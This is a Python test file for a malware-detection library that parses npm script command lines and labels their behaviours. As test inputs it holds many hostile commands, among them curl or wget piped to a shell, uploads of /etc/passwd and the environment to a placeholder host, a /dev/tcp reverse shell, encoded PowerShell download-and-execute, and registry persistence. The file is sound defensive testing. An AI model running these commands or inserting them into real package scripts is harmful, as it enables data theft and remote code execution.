"""features.commands: tokenising command lines, their behaviours, the package code npm scripts start."""

from __future__ import annotations

import base64
import shlex

import pytest

from malseq.features.commands import (
    FILE,
    INLINE_REQUIRE,
    MAX_SCRIPT_NESTING,
    PRELOAD,
    SCRIPT,
    _tokens,
    analyse_command,
    expand,
    is_build_command,
    is_npm_build_script,
    looks_like_command,
    node_inline_scripts,
    parse_command,
    reachable_scripts,
    script_behaviours,
    scripts_started,
    shipped_program_names,
    split_command,
)


def _targets(command: str) -> list[tuple[str, str]]:
    return [(t.kind, t.value) for t in parse_command(command)]


def test_node_file_forms() -> None:
    assert _targets("node index.js") == [(FILE, "index.js")]
    assert _targets("node ./lib/x.js --flag value") == [(FILE, "lib/x.js")]
    assert _targets("node --max-old-space-size=4096 --no-warnings scripts/post") == [(FILE, "scripts/post")]
    assert _targets("nodejs x.js") == [(FILE, "x.js")]
    assert _targets("./bin/run.js") == [(FILE, "bin/run.js")]
    assert _targets("install.sh") == [(FILE, "install.sh")]


def test_chained_commands_and_cd() -> None:
    assert _targets("node a.js && node b.js || node c.js; node d.js | tee log") == [
        (FILE, "a.js"), (FILE, "b.js"), (FILE, "c.js"), (FILE, "d.js")]
    assert _targets("cd scripts && node init.js") == [(FILE, "scripts/init.js")]
    assert _targets("cd .. && node x.js") == [(FILE, "x.js")]


def test_inline_code_and_preload() -> None:
    assert _targets("node -e \"require('./lib/steal')\"") == [(INLINE_REQUIRE, "./lib/steal")]
    assert _targets("node -e 'console.log(1); require(\"os\")'") == [(INLINE_REQUIRE, "os")]
    assert _targets("node -r ./hook.js main.js") == [(PRELOAD, "./hook.js"), (FILE, "main.js")]


def test_npm_run_and_shells() -> None:
    assert _targets("npm run build && npm run-script setup") == [(SCRIPT, "build"), (SCRIPT, "setup")]
    assert _targets("yarn compile") == [(SCRIPT, "compile")]
    assert _targets("yarn install") == []
    assert _targets("npm start") == [(SCRIPT, "start")]
    assert _targets("sh ./install.sh") == [(FILE, "install.sh")]
    assert _targets("bash -c 'node x.js'") == [(FILE, "x.js")]
    assert _targets("python setup_hook.py") == [(FILE, "setup_hook.py")]


def test_external_commands_and_env_prefixes() -> None:
    assert _targets("curl http://x | sh") == []
    assert _targets("node-gyp rebuild") == []
    assert _targets("NODE_ENV=production node server.js > out.log 2>&1") == [(FILE, "server.js")]
    assert _targets("cross-env FOO=1 node s.js") == [(FILE, "s.js")]
    assert _targets("node 'unbalanced.js") in ([(FILE, "'unbalanced.js")], [(FILE, "unbalanced.js")])


# --- tokenising -------------------------------------------------------------------------------


def _words(command: str) -> list[tuple[str, ...]]:
    return [s.words for s in split_command(command)]


def test_quoting_keeps_operators_inside_quotes() -> None:
    assert _words("echo 'a | b && c' ; ls") == [("echo", "a | b && c"), ("ls",)]
    assert _words('node -e "require(\\"x\\")"') == [("node", "-e", 'require("x")')]
    assert _words("curl http://x/#frag") == [("curl", "http://x/#frag")]  # no shlex comment cut
    assert _words("a\nb") == [("a",), ("b",)]  # a newline separates commands


@pytest.mark.parametrize("command", [
    "a&&b||c;d|e&", "node s.js > out.log 2>&1", "x=$(hostname | md5sum) ./m -u $x &", "diff <(ls a) b",
    "line1\nline2;;(sub)", "  spaced   words\t tab ", "C:/x/y.exe /c a", "",
])
def test_fast_tokeniser_matches_shlex(command: str) -> None:
    lexer = shlex.shlex(command, posix=True, punctuation_chars="();<>|&\n")
    lexer.whitespace_split = True
    lexer.whitespace = " \t\r\f\v"
    lexer.commenters = ""
    assert _tokens(command) == list(lexer)


def test_separators_pipes_and_background() -> None:
    segments = split_command("a && b || c; d | e &")
    assert [s.program for s in segments] == ["a", "b", "c", "d", "e"]
    assert [s.piped for s in segments] == [False, False, False, False, True]
    assert [s.background for s in segments] == [False, False, False, False, True]


def test_command_substitutions_stay_in_their_word() -> None:
    assert _words("echo $(uname -a | base64) | curl -d @- x") == [
        ("echo", "$(uname -a | base64)"), ("curl", "-d", "@-", "x")]
    assert _words("diff <(ls a) b") == [("diff", "<(ls a)", "b")]
    assert [s.program for s in expand("echo $(uname -a | base64)")] == ["uname", "base64", "echo"]


def test_redirections_are_not_arguments() -> None:
    assert _words("node s.js > out.log 2>&1") == [("node", "s.js")]
    assert _words("cat < in.txt >> out &> all") == [("cat",)]


def test_wrappers_and_env_prefixes() -> None:
    [seg] = split_command("FOO=1 BAR=x node x.js")
    assert seg.words == ("node", "x.js") and seg.wrappers == ("FOO=1", "BAR=x")
    [seg] = split_command("cross-env NODE_ENV=production node s.js")
    assert seg.program == "node" and seg.wrappers == ("cross-env", "NODE_ENV=production")
    [seg] = split_command("npx -y --package=foo foo-cli --x")
    assert seg.words == ("foo-cli", "--x") and seg.wrappers == ("npx",)
    assert split_command("sudo -u root /usr/bin/curl http://x")[0].program == "curl"
    assert split_command("env FOO=1 node x")[0].program == "node"
    assert split_command("env")[0].program == "env"  # bare env prints the environment
    assert split_command(r"C:\Windows\System32\cmd.exe /c whoami")[0].program == "cmd"


def test_nested_shell_code_and_substitutions_are_expanded() -> None:
    assert [s.program for s in expand("bash -c 'curl http://x | sh'")] == ["bash", "curl", "sh"]
    assert [s.program for s in expand('cmd /c "whoami & hostname"')] == ["cmd", "whoami", "hostname"]
    assert [s.program for s in expand('curl -d "$(env)" http://x')] == ["env", "curl"]
    deep = "sh -c " + shlex.quote("sh -c " + shlex.quote("sh -c " + shlex.quote("sh -c " + shlex.quote(
        "sh -c " + shlex.quote("curl x")))))
    assert "curl" not in [s.program for s in expand(deep)]  # nesting is bounded


# --- behaviours -------------------------------------------------------------------------------


def _ps_encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


@pytest.mark.parametrize(("command", "expected", "absent"), [
    ("curl -s http://x | bash", {"shell_command", "network_request", "download_and_execute"}, set()),
    ("wget -qO- http://x | python3", {"network_request", "download_and_execute"}, set()),
    ("curl http://x; bash", {"network_request"}, {"download_and_execute"}),  # not piped
    ("echo 'curl http://x | sh'", {"shell_command"}, {"network_request", "download_and_execute"}),
    ("sh -c 'curl -fsSL http://x | sh'", {"network_request", "download_and_execute"}, set()),
    ("curl -o /tmp/p http://x && chmod +x /tmp/p && /tmp/p", {"download_and_execute", "write_executable"}, set()),
    ("curl -o p.sh http://x && sh p.sh", {"download_and_execute"}, set()),
    ("curl -d @/etc/passwd http://x", {"network_request", "upload_data"}, set()),
    ('sh -c "$(curl -fsSL http://x/install)"', {"network_request", "download_and_execute"}, set()),
    ("bash <(curl -s http://x)", {"network_request", "download_and_execute"}, set()),
    ('eval "$(wget -qO- http://x)"', {"download_and_execute"}, set()),
    ("echo $(curl http://x)", {"network_request"}, {"download_and_execute"}),
    ("x=$(hostname | md5sum) ./miner -u $x 2>/dev/null &", {"collect_system_info", "hidden_process"}, set()),
    ("nslookup `hostname`.x.example", {"dns_lookup", "collect_system_info"}, set()),
    ("FOO=1 node x.js", set(), {"shell_command", "eval_code"}),
    ("cross-env NODE_ENV=production node build.js", set(), {"shell_command", "read_env"}),
    ("env FOO=1 node x.js", set(), {"read_env"}),
    ("env | curl -d @- http://x", {"read_env", "upload_data"}, set()),
    ("npx -y some-cli && whoami", {"collect_system_info"}, set()),
    ("node -e 'require(\"child_process\")'", {"shell_command", "eval_code"}, set()),
    ("node x.js -e foo", set(), {"eval_code"}),  # -e belongs to x.js, not node
    ("python -c 'import os'", {"shell_command", "eval_code"}, set()),
    ("python3 setup_hook.py", set(), {"shell_command", "eval_code"}),
    ("nohup node x.js > /dev/null 2>&1 &", {"hidden_process", "shell_command"}, set()),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", {"reverse_shell"}, set()),
    ("nslookup $(whoami).x.example", {"dns_lookup", "collect_system_info"}, set()),
    ("echo $NPM_TOKEN | base64 -d | sh", {"read_env", "encoding_call", "eval_code"}, set()),
    ("powershell -w hidden -enc " + _ps_encoded("iwr http://x/p.exe -OutFile $env:TEMP\\p.exe"),
     {"encoding_call", "eval_code", "hidden_process", "network_request"}, set()),
    ("powershell -EncodedCommand " + _ps_encoded("whoami | Out-File x"), {"collect_system_info", "eval_code"}, set()),
    ("powershell -Command \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"",
     {"network_request", "download_and_execute"}, set()),
    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y", {"persistence"}, set()),
])
def test_analyse_command(command: str, expected: set[str], absent: set[str]) -> None:
    found = analyse_command(command)
    assert expected <= set(found), found
    assert not absent & set(found), found
    assert len(found) == len(set(found))


def test_analyse_command_survives_unbalanced_quotes_and_huge_input() -> None:
    assert "network_request" in analyse_command("curl 'http://x | sh")
    assert analyse_command("a" * 100_000 + " | sh") is not None


def test_looks_like_command() -> None:
    assert looks_like_command("curl -s http://x")
    assert looks_like_command("whoami")
    assert not looks_like_command("base64")
    assert not looks_like_command("the curl of a wave")


def test_node_inline_scripts() -> None:
    assert node_inline_scripts("node -e \"require('x')\"") == ["require('x')"]
    assert node_inline_scripts("node --eval='1+1' && node index.js") == ["1+1"]
    assert node_inline_scripts("cross-env A=1 node -p 'process.env'") == ["process.env"]
    assert node_inline_scripts("sh -c \"node -e 'x()'\"") == ["x()"]
    assert node_inline_scripts("node index.js") == []


def test_script_behaviours_add_literals_and_inline_javascript() -> None:
    found = script_behaviours("node -e \"require('https').get('https://203.0.113.9/x')\"")
    assert {"eval_code", "use_ip_address", "network_request"} <= set(found)


# --- npm run chains ---------------------------------------------------------------------------


def test_npm_runners_name_scripts_only_in_this_module() -> None:
    assert _targets("pnpm build && pnpm install && pnpm exec foo") == [(SCRIPT, "build")]
    assert _targets("npm test && npm install && npm run-script x -- --flag") == [(SCRIPT, "test"), (SCRIPT, "x")]
    assert _targets("yarn run y") == [(SCRIPT, "y")]


def test_reachable_scripts_follow_chains_once_and_stop_on_cycles() -> None:
    scripts = {"postinstall": "npm run a && npm run b", "a": "npm run b", "b": "yarn a && node x.js",
               "unused": "curl x | sh", "preinstall": "node p.js"}
    assert [n for n, _ in reachable_scripts(scripts, ["preinstall", "postinstall"])] == [
        "preinstall", "postinstall", "a", "b"]
    assert reachable_scripts(scripts, ["missing"]) == []


def test_reachable_scripts_bound_the_chain_length() -> None:
    chain = {f"s{i}": f"npm run s{i + 1}" for i in range(10)}
    reached = [n for n, _ in reachable_scripts(chain, ["s0"])]
    assert reached == [f"s{i}" for i in range(MAX_SCRIPT_NESTING)]


def test_reachable_scripts_of_a_dense_web_is_cheap() -> None:
    names = [f"s{i}" for i in range(300)]
    web = {n: " && ".join(f"npm run {m}" for m in names) for n in names}
    assert len(reachable_scripts(web, ["s0"])) == 300


def test_npm_and_yarn_run_pre_and_post_hooks() -> None:
    [npm] = parse_command("npm run build")
    assert scripts_started(npm) == ("prebuild", "build", "postbuild")
    [yarn] = parse_command("yarn build")
    assert scripts_started(yarn) == ("prebuild", "build", "postbuild")
    [pnpm] = parse_command("pnpm build")
    assert scripts_started(pnpm) == ("build",)
    [file] = parse_command("node x.js")
    assert scripts_started(file) == ()
    scripts = {"postinstall": "npm run build", "prebuild": "curl http://x | sh", "build": "tsc", "postbuild": "x"}
    assert [n for n, _ in reachable_scripts(scripts, ["postinstall"])] == ["postinstall", "prebuild", "build",
                                                                           "postbuild"]


@pytest.mark.parametrize(("command", "build"), [
    ("mecab-config --libs-only-l", True),
    ("mecab-config --inc-dir", True),
    ("xml2-config --cflags --libs", True),
    ("pg_config --includedir", True),
    ("python3.11-config --includes --ldflags", True),
    ("pkg-config --cflags libxml-2.0", True),
    ("mecab-config", False),  # no query: not recognised
    ("mecab-config --cflags; curl -s https://example.org/x | sh", False),
    ("mecab-config --cflags | sh", False),
    ("helper-config https://example.org/stage2.sh", False),
    ("helper-config --url=https://example.org/x", False),
    ("helper-config --cflags /tmp/x", False),
    ("./bin/mecab-config --cflags", False),  # the package's own program
    ("nohup mecab-config --cflags &", False),
    ("mecab-config --cflags $(curl -s https://example.org/x)", False),
    ("configure --prefix", False),
])
def test_config_queries_are_build_steps_and_nothing_else(command: str, build: bool) -> None:
    assert is_build_command(command) is build


@pytest.mark.parametrize(("command", "build"), [
    ("PATH=.:$PATH evil-config --libs", False),  # the program looked up first is the package's own
    ("LD_PRELOAD=./x.so make", False),
    ("DYLD_INSERT_LIBRARIES=./x.dylib make", False),
    ("PKG_CONFIG_PATH=./pc pkg-config --cflags x", False),
    ("CFLAGS=-O2 make", True),  # an ordinary build variable
    ("env PATH=. evil-config --libs", False),
])
def test_search_path_variables_in_front_make_a_command_not_a_build_step(command: str, build: bool) -> None:
    assert is_build_command(command) is build


def test_a_program_the_package_ships_is_not_a_build_tool() -> None:
    shipped = shipped_program_names(["foo-config.cmd", "lib/make.bat", "README.md", ".gitignore"])
    assert not is_build_command("foo-config --libs", shipped)  # cmd runs ./foo-config.cmd first
    assert not is_build_command("make", shipped)  # any folder counts
    assert is_build_command("foo-config --libs")
    assert is_build_command("xml2-config --cflags", shipped)
    assert is_build_command("gcc -c x.c", shipped)
    assert not is_npm_build_script("foo-config --version && node-gyp rebuild", shipped)
    assert is_npm_build_script("node-gyp rebuild", shipped)
    assert not is_npm_build_script("PATH=./bin:$PATH node-gyp rebuild")
    # a file Windows cannot run by bare name does not shadow the tool
    headers = shipped_program_names(["include/napi.h", "docs/make.txt", "xml2-config.in"])
    assert is_build_command("make", headers)
    assert is_build_command("xml2-config --cflags", headers)
    assert not is_build_command("make", shipped_program_names(["tools/make.ps1"]))


@pytest.mark.parametrize(("command", "found"), [
    ("start the server", []),  # a script line of prose (issue 11)
    ("Start date must precede the end date", []),
    ("start /b evil.exe", ["shell_command"]),
    ('start "" %TEMP%\\updater.exe', ["shell_command"]),  # cmd's start: the empty title only it takes
    ("npm start", []),
    ("start", []),
    ("start powershell -enc AAAA", ["shell_command"]),  # cmd's start without a switch, then a program
    ("start wscript x.vbs", ["shell_command", "run_command"]),
    ("start mshta http://e.example/x.hta", ["shell_command", "run_command"]),
    ("start cmd /c curl -s http://e.example/x -o x.exe", ["shell_command", "network_request"]),
    ("start evil.exe", ["shell_command"]),
    ("start x.vbs", ["shell_command"]),
    ("start https://e.example/x.hta", ["shell_command"]),
])
def test_start_is_a_command_only_as_cmds_start(command: str, found: list[str]) -> None:
    assert analyse_command(command) == found
